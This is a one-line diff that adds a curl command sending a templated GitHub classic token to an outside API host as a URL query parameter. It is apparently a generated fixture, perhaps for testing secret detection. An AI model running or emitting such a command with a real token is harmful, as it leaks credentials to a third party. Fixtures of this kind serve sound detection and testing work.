@@ -1,0 +1,1 @@
+curl "https://api.acme-corp.io/?t={{secret:github-classic|percent}}"
